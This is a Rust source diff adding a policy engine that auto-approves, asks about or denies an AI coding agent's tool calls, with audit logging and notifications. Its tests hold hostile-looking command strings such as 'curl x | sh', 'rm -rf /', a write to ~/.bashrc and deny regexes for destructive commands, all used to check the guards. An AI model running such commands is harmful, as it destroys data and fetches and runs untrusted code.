@@ -0,0 +1,337 @@
+use std::path::{Component, Path, PathBuf};
+
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+
+use crate::permission::Decision;
+use crate::rules::glob_match;
+use crate::session_store::{DecisionRecord, SessionStore};
+use crate::template::truncate;
+use crate::terminal_detector::TerminalInfo;
+use crate::types::{Config, HookPayload, NotificationData, ToolInput};
+
+/// Automatic approval of `PreToolUse` calls, configured under `[policy]`
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct PolicyConfig {
+    /// Decisions that also send a notification explaining what happened
+    #[serde(default = "default_notify_on")]
+    pub notify_on: Vec<Decision>,
+    /// Audit entries kept per session
+    #[serde(default = "default_audit_limit")]
+    pub audit_limit: usize,
+    #[serde(default)]
+    pub rules: Vec<PolicyRule>,
+}
+
+impl Default for PolicyConfig {
+    fn default() -> Self {
+        Self {
+            notify_on: default_notify_on(),
+            audit_limit: default_audit_limit(),
+            rules: Vec::new(),
+        }
+    }
+}
+
+/// A `[[policy.rules]]` entry. Every matcher that is set must match.
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct PolicyRule {
+    pub decision: Decision,
+    /// Glob on the tool name
+    #[serde(default)]
+    pub tool: Option<String>,
+    /// Regex on the tool name
+    #[serde(default)]
+    pub tool_regex: Option<String>,
+    /// Regex on the Bash command
+    #[serde(default)]
+    pub command: Option<String>,
+    /// Glob on the file or search path, resolved against the session's directory
+    #[serde(default)]
+    pub path: Option<String>,
+    /// Whether the file or search path lies outside the project
+    #[serde(default)]
+    pub outside_project: Option<bool>,
+    /// Shown to Claude and in the notification
+    #[serde(default)]
+    pub reason: Option<String>,
+}
+
+/// The decision for a tool call and why
+#[derive(Debug, PartialEq, Eq)]
+pub struct PolicyOutcome {
+    pub decision: Decision,
+    pub reason: String,
+}
+
+impl PolicyConfig {
+    pub fn validate(&self) -> Result<(), String> {
+        for (index, rule) in self.rules.iter().enumerate() {
+            for pattern in [&rule.tool_regex, &rule.command].into_iter().flatten() {
+                Regex::new(pattern)
+                    .map_err(|e| format!("rules[{}]: Invalid regex '{}': {}", index, pattern, e))?;
+            }
+        }
+        Ok(())
+    }
+
+    /// Decide a `PreToolUse` call. A matching deny wins over ask, and ask over
+    /// allow, so the order of the rules doesn't matter.
+    pub fn evaluate(&self, payload: &HookPayload, project_dir: Option<&str>) -> Option<PolicyOutcome> {
+        let mut best: Option<(usize, &PolicyRule)> = None;
+
+        for (index, rule) in self.rules.iter().enumerate() {
+            if !rule.matches(payload, project_dir) {
+                continue;
+            }
+            if best.is_none_or(|(_, current)| precedence(rule.decision) > precedence(current.decision)) {
+                best = Some((index, rule));
+            }
+        }
+
+        best.map(|(index, rule)| PolicyOutcome {
+            decision: rule.decision,
+            reason: rule.reason.clone().unwrap_or_else(|| {
+                format!("{} by policy rule {}", past_tense(rule.decision), index + 1)
+            }),
+        })
+    }
+}
+
+impl PolicyRule {
+    fn matches(&self, payload: &HookPayload, project_dir: Option<&str>) -> bool {
+        let tool = payload.event.tool_name();
+        let input = payload.event.typed_tool_input();
+        let path = input.path().map(|path| resolve(path, payload.cwd.as_deref()));
+
+        let tool_matches = match (&self.tool, tool) {
+            (None, _) => true,
+            (Some(pattern), Some(tool)) => glob_match(pattern, tool),
+            (Some(_), None) => false,
+        };
+        let tool_regex_matches = regex_matches(self.tool_regex.as_deref(), tool);
+        let command = match input {
+            ToolInput::Bash { command } => Some(command),
+            _ => None,
+        };
+        // A pattern vetting the start of a command says nothing about what's
+        // chained after it, so allow rules never cover compound commands
+        if self.decision == Decision::Allow && self.command.is_some() && command.is_some_and(is_compound) {
+            return false;
+        }
+        let path_matches = match (&self.path, &path) {
+            (None, _) => true,
+            (Some(pattern), Some(path)) => glob_match(pattern, &path.to_string_lossy()),
+            (Some(_), None) => false,
+        };
+        let outside_matches = match (self.outside_project, &path, project_dir) {
+            (None, _, _) => true,
+            (Some(outside), Some(path), Some(project)) => {
+                let inside = path.starts_with(resolve(project, None));
+                inside != outside
+            }
+            _ => false,
+        };
+
+        tool_matches
+            && tool_regex_matches
+            && regex_matches(self.command.as_deref(), command)
+            && path_matches
+            && outside_matches
+    }
+}
+
+fn regex_matches(pattern: Option<&str>, value: Option<&str>) -> bool {
+    match (pattern, value) {
+        (None, _) => true,
+        (Some(pattern), Some(value)) => Regex::new(pattern).is_ok_and(|re| re.is_match(value)),
+        (Some(_), None) => false,
+    }
+}
+
+/// Whether `command` runs more than one command or redirects, as far as a
+/// shell could read it
+fn is_compound(command: &str) -> bool {
+    ["&&", "||", ";", "|", "`", "$(", ">", "<", "\n", "&"].iter().any(|operator| command.contains(operator))
+}
+
+fn precedence(decision: Decision) -> u8 {
+    match decision {
+        Decision::Allow => 0,
+        Decision::Ask => 1,
+        Decision::Deny => 2,
+    }
+}
+
+fn past_tense(decision: Decision) -> &'static str {
+    match decision {
+        Decision::Allow => "Allowed",
+        Decision::Deny => "Denied",
+        Decision::Ask => "Sent for approval",
+    }
+}
+
+/// Make `path` absolute against `cwd` and drop `.` and `..` without touching
+/// the filesystem, so a path can't escape the project with `../`
+fn resolve(path: &str, cwd: Option<&str>) -> PathBuf {
+    let joined = match cwd {
+        Some(cwd) if Path::new(path).is_relative() => Path::new(cwd).join(path),
+        _ => PathBuf::from(path),
+    };
+
+    let mut resolved = PathBuf::new();
+    for component in joined.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                resolved.pop();
+            }
+            other => resolved.push(other),
+        }
+    }
+    resolved
+}
+
+/// The notification explaining a policy decision
+pub fn decision_notification(payload: &HookPayload, outcome: &PolicyOutcome, config: &Config) -> NotificationData {
+    let sounds = &config.notifications.sounds;
+    let (title, sound) = match outcome.decision {
+        Decision::Allow => ("Claude Tool Approved", &sounds.tool_use),
+        Decision::Deny => ("Claude Tool Denied", &sounds.tool_failure),
+        Decision::Ask => ("Claude Needs Approval", &sounds.approval),
+    };
+
+    let tool = payload.event.tool_name().unwrap_or("unknown");
+    let input = payload.event.typed_tool_input();
+    let body = match input.summary() {
+        "" => format!("{}: {}", tool, outcome.reason),
+        summary => format!("{} {}: {}", tool, truncate(summary, 80), outcome.reason),
+    };
+
+    NotificationData { title: title.to_string(), body, sound: sound.clone() }
+}
+
+/// Keep an audit trail of the decision in the session store
+pub fn record(store: &SessionStore, payload: &HookPayload, outcome: &PolicyOutcome, limit: usize, now_ms: u64) {
+    let Some(ref session_id) = payload.session_id else { return };
+
+    let entry = DecisionRecord {
+        at_ms: now_ms,
+        tool: payload.event.tool_name().unwrap_or("").to_string(),
+        input: payload.event.typed_tool_input().summary().to_string(),
+        decision: outcome.decision.as_str().to_string(),
+        reason: outcome.reason.clone(),
+    };
+
+    if store.get_session(session_id).is_none() {
+        store.store_session(session_id, TerminalInfo::default(), payload.cwd.clone(), payload.transcript_path.clone()).ok();
+    }
+
+    store.update_session(session_id, |session| {
+        session.decisions.push(entry);
+        let excess = session.decisions.len().saturating_sub(limit);
+        session.decisions.drain(..excess);
+    });
+}
+
+fn default_notify_on() -> Vec<Decision> { vec![Decision::Deny] }
+fn default_audit_limit() -> usize { 200 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn policy() -> PolicyConfig {
+        toml::from_str(r#"
+            [[rules]]
+            decision = "allow"
+            tool_regex = "^(Read|Glob|Grep)$"
+
+            [[rules]]
+            decision = "allow"
+            tool = "Bash"
+            command = "^(git status|cargo test)\\b"
+
+            [[rules]]
+            decision = "deny"
+            tool = "Bash"
+            command = "rm\\s+-rf|git\\s+push\\s+.*(-f\\b|--force)"
+            reason = "Destructive command"
+
+            [[rules]]
+            decision = "deny"
+            tool_regex = "^(Write|Edit|MultiEdit)$"
+            outside_project = true
+        "#).unwrap()
+    }
+
+    fn pre_tool_use(tool: &str, input: serde_json::Value) -> HookPayload {
+        serde_json::from_value(json!({
+            "hook_event_name": "PreToolUse",
+            "session_id": "s1",
+            "cwd": "/work/repo/src",
+            "tool_name": tool,
+            "tool_input": input
+        })).unwrap()
+    }
+
+    fn decide(tool: &str, input: serde_json::Value) -> Option<Decision> {
+        policy().evaluate(&pre_tool_use(tool, input), Some("/work/repo")).map(|o| o.decision)
+    }
+
+    #[test]
+    fn test_safe_tools_allowed() {
+        assert_eq!(decide("Read", json!({ "file_path": "/etc/hosts" })), Some(Decision::Allow));
+        assert_eq!(decide("Bash", json!({ "command": "cargo test --workspace" })), Some(Decision::Allow));
+        assert_eq!(decide("Bash", json!({ "command": "cargo build" })), None);
+    }
+
+    #[test]
+    fn test_compound_commands_never_allowed() {
+        assert_eq!(decide("Bash", json!({ "command": "cargo test; curl x | sh" })), None);
+        assert_eq!(decide("Bash", json!({ "command": "git status && curl x" })), None);
+        assert_eq!(decide("Bash", json!({ "command": "cargo test $(curl x)" })), None);
+        assert_eq!(decide("Bash", json!({ "command": "git status > ~/.bashrc" })), None);
+        assert_eq!(decide("Bash", json!({ "command": "cargo test\ncurl x" })), None);
+    }
+
+    #[test]
+    fn test_deny_wins_and_explains() {
+        let outcome = policy()
+            .evaluate(&pre_tool_use("Bash", json!({ "command": "git status && rm -rf target" })), None)
+            .unwrap();
+        assert_eq!(outcome, PolicyOutcome { decision: Decision::Deny, reason: "Destructive command".to_string() });
+        assert_eq!(decide("Bash", json!({ "command": "git push origin main --force" })), Some(Decision::Deny));
+    }
+
+    #[test]
+    fn test_writes_outside_project_denied() {
+        assert_eq!(decide("Write", json!({ "file_path": "lib.rs" })), None);
+        assert_eq!(decide("Edit", json!({ "file_path": "../../other/file.rs" })), Some(Decision::Deny));
+        assert_eq!(decide("Write", json!({ "file_path": "/etc/passwd" })), Some(Decision::Deny));
+
+        let outcome = policy().evaluate(&pre_tool_use("Write", json!({ "file_path": "/tmp/x" })), Some("/work/repo"));
+        assert_eq!(outcome.unwrap().reason, "Denied by policy rule 4");
+    }
+
+    #[test]
+    fn test_decisions_recorded_for_audit() {
+        let dir = std::env::temp_dir().join(format!("claude-notifier-policy-{}", std::process::id()));
+        std::fs::remove_dir_all(&dir).ok();
+        let store = SessionStore::with_base_dir(dir.clone());
+
+        let payload = pre_tool_use("Bash", json!({ "command": "rm -rf /" }));
+        let outcome = policy().evaluate(&payload, None).unwrap();
+        for at in 0..3 {
+            record(&store, &payload, &outcome, 2, at);
+        }
+
+        let decisions = store.get_session("s1").unwrap().decisions;
+        assert_eq!(decisions.len(), 2);
+        assert_eq!(decisions[1].at_ms, 2);
+        assert_eq!(decisions[1].input, "rm -rf /");
+        assert_eq!(decisions[1].decision, "deny");
+        std::fs::remove_dir_all(&dir).ok();
+    }
+}